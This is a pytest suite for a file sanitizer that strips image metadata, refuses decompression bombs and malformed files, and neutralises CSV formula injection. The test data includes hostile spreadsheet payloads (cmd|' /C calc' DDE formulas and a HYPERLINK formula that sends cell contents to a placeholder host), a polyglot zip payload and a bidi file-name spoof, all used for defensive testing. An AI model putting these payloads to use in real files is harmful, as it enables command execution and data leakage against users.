"""Images are re-encoded without metadata; text and CSV come out as clean UTF-8."""

from __future__ import annotations

import codecs
import csv
import io

import pytest
from PIL import Image
from sanitizer_samples import (
    animated_gif,
    jpeg_with_gps,
    png_bytes,
    png_header_only,
    png_with_metadata,
    zip_bytes,
)

from sanitizer.errors import Code, Refused
from sanitizer.image import rebuild_image
from sanitizer.limits import Limits
from sanitizer.text import is_formula_like, rebuild_csv, rebuild_text, rebuild_tsv
from sanitizer.verify import verify

# ------------------------------------------------------------------ images


def test_png_metadata_is_stripped_and_pixels_kept(detector) -> None:  # type: ignore[no-untyped-def]
    source = png_with_metadata()
    rebuilt = rebuild_image(source, Limits(), "png")
    assert rebuilt.removed["metadata"] == 1
    with Image.open(io.BytesIO(rebuilt.data)) as out, Image.open(io.BytesIO(source)) as src:
        assert out.tobytes() == src.tobytes() and out.size == src.size
        assert not out.getexif() and not getattr(out, "text", {})
    assert b"secret author note" not in rebuilt.data and b"PhoneMaker" not in rebuilt.data
    assert verify(rebuilt.data, "png", Limits(), detector) == []


def test_jpeg_gps_is_stripped_and_orientation_applied(detector) -> None:  # type: ignore[no-untyped-def]
    rebuilt = rebuild_image(jpeg_with_gps(orientation=6), Limits(), "jpeg")
    with Image.open(io.BytesIO(rebuilt.data)) as out:
        assert out.size == (20, 40)  # rotated upright, since the orientation tag is gone
        assert not out.getexif() and "comment" not in out.info
    assert b"PhoneMaker" not in rebuilt.data and b"taken at home" not in rebuilt.data
    assert verify(rebuilt.data, "jpeg", Limits(), detector) == []


def test_animated_gif_keeps_frames_and_loses_comment(detector) -> None:  # type: ignore[no-untyped-def]
    rebuilt = rebuild_image(animated_gif(frames=3), Limits(), "gif")
    with Image.open(io.BytesIO(rebuilt.data)) as out:
        assert out.n_frames == 3 and "comment" not in out.info
    assert b"gif note" not in rebuilt.data
    assert verify(rebuilt.data, "gif", Limits(), detector) == []


@pytest.mark.parametrize("kind", ["png", "jpeg", "gif"])
def test_trailing_payload_is_dropped(kind: str) -> None:
    image = {"png": png_bytes(), "jpeg": jpeg_with_gps(1), "gif": animated_gif(1)}[kind]
    polyglot = image + zip_bytes({"payload.js": "WScript.Shell"})
    rebuilt = rebuild_image(polyglot, Limits(), kind)
    assert rebuilt.removed["trailing_data"] == 1
    assert b"PK\x03\x04" not in rebuilt.data and b"WScript" not in rebuilt.data


@pytest.mark.parametrize(
    ("width", "height"), [(30_000, 10), (8_000, 8_000)], ids=["long-side", "pixel-count"]
)
def test_decompression_bombs_are_refused(width: int, height: int) -> None:
    with pytest.raises(Refused) as refused:
        rebuild_image(png_header_only(width, height), Limits(), "png")
    assert refused.value.code is Code.IMAGE_TOO_LARGE


def test_gif_frame_limit() -> None:
    with pytest.raises(Refused) as refused:
        rebuild_image(animated_gif(frames=6), Limits(max_gif_frames=5), "gif")
    assert refused.value.code is Code.IMAGE_TOO_LARGE


@pytest.mark.parametrize("fraction", [0.1, 0.5, 0.9])
def test_truncated_images_are_refused(fraction: float) -> None:
    source = png_bytes((200, 200), mode="RGB")
    with pytest.raises(Refused) as refused:
        rebuild_image(source[: int(len(source) * fraction)], Limits(), "png")
    assert refused.value.code is Code.IMAGE_MALFORMED


def test_decoder_is_pinned_to_the_detected_type() -> None:
    with pytest.raises(Refused) as refused:
        rebuild_image(png_bytes(), Limits(), "jpeg")
    assert refused.value.code is Code.IMAGE_MALFORMED


# ------------------------------------------------------------------ text and CSV


def read_csv(data: bytes, delimiter: str = ",") -> list[list[str]]:
    assert data.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline=""), delimiter=delimiter))


INJECTIONS = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
    "＝１＋１", "＋cmd", "－1+1", "＠SUM(A1)", "−1+1", " =1+1", "\u3000=HYPERLINK(\"http://x\")",
    '=HYPERLINK("http://example.invalid?"&A1,"click")', "=cmd|'/k calc'!A0", "﹦1+1",
]  # fmt: skip
HARMLESS = ["-123", "+81", "-1,000.5", "3.5e2", "-", "ー", "---", "東京都", "", "a=b", "1-2-3"]


@pytest.mark.parametrize("cell", INJECTIONS)
def test_csv_formula_cells_are_neutralised(cell: str, detector) -> None:  # type: ignore[no-untyped-def]
    out = io.StringIO(newline="")
    csv.writer(out).writerow(["名前", cell])
    rebuilt = rebuild_csv(out.getvalue().encode("utf-8"), Limits())
    row = read_csv(rebuilt.data)[0]
    assert row[1].startswith("'") and row[1][1:] == cell.replace("\r", "\n")
    assert rebuilt.removed["csv_formula"] == 1
    assert verify(rebuilt.data, "csv", Limits(), detector) == []


@pytest.mark.parametrize("cell", HARMLESS)
def test_csv_plain_cells_are_untouched(cell: str) -> None:
    assert not is_formula_like(cell)
    out = io.StringIO(newline="")
    csv.writer(out).writerow([cell, "x"])
    rebuilt = rebuild_csv(out.getvalue().encode("utf-8"), Limits())
    assert read_csv(rebuilt.data)[0][0] == cell and not rebuilt.removed


def test_cp932_csv_becomes_utf8_with_bom() -> None:
    source = "氏名,住所\r\n山田太郎,東京都千代田区霞が関１－２－３\r\n髙橋,﨑\r\n".encode("cp932")
    rebuilt = rebuild_csv(source, Limits())
    assert read_csv(rebuilt.data) == [
        ["氏名", "住所"],
        ["山田太郎", "東京都千代田区霞が関１－２－３"],
        ["髙橋", "﨑"],
    ]


def test_tsv_uses_tabs() -> None:
    rebuilt = rebuild_tsv(b"a\t=1+1\n", Limits())
    assert read_csv(rebuilt.data, "\t") == [["a", "'=1+1"]] and rebuilt.kind == "tsv"


def test_broken_csv_is_refused() -> None:
    with pytest.raises(Refused) as refused:
        rebuild_csv(b'a,"unterminated\n', Limits())
    assert refused.value.code is Code.CSV_MALFORMED


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("日本語のテキスト\n".encode(), "日本語のテキスト\n"),
        ("日本語のテキスト\r\n".encode("cp932"), "日本語のテキスト\n"),
        ("日本語\n".encode("utf-16"), "日本語\n"),
        (codecs.BOM_UTF8 + "BOM付き".encode(), "BOM付き"),
    ],
    ids=["utf-8", "cp932", "utf-16", "utf-8-bom"],
)
def test_text_is_decoded_and_written_as_utf8(source: bytes, expected: str) -> None:
    assert rebuild_text(source, Limits()).data == expected.encode("utf-8")


def test_control_and_bidi_characters_are_removed(detector) -> None:  # type: ignore[no-untyped-def]
    rebuilt = rebuild_text("請求書\u202etxt.exe\x1b[31m赤\x07\n".encode(), Limits())
    assert rebuilt.data.decode() == "請求書txt.exe[31m赤\n"
    assert rebuilt.removed["control_chars"] == 3
    assert verify(rebuilt.data, "text", Limits(), detector) == []


def test_undecodable_text_is_refused() -> None:
    with pytest.raises(Refused) as refused:
        rebuild_text(b"\x82\xa0\xff\xfe\x85", Limits())
    assert refused.value.code is Code.TEXT_UNDECODABLE


def test_text_size_limit() -> None:
    with pytest.raises(Refused) as refused:
        rebuild_text(b"a" * 101, Limits(max_text_bytes=100))
    assert refused.value.code is Code.TOO_LARGE
